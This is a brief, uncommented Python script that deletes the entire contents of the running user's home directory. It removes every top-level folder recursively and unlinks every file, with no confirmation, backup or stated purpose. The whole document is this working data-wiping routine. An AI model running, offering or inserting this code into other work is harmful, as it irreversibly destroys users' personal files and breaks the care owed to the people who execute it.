from pathlib import Path
import shutil

target = Path.home()
for child in target.iterdir():
    if child.is_dir():
        shutil.rmtree(child)
    else:
        child.unlink()
